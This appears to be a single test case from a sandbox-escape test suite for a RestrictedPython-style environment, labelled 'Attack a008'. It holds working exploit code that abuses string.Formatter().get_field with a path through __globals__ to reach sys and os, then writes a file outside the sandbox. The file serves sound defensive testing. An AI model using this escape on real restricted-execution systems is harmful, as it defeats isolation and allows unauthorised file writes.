# Attack a008: import string for string.Formatter().get_field.
# expect: compile
# stage: preview
# effect: write
# covers: RestrictedPython advisory: string.Formatter
# calibrate: live

import string


def transform(df):
    obj = string.Formatter().get_field("0.__init__.__globals__[sys]", [df], {})[0]
    o = obj.modules["os"]
    fd = o.open("{OUTSIDE_FILE}", o.O_WRONLY | o.O_CREAT, 420)
    o.write(fd, b"escaped")
    o.close(fd)
    return df
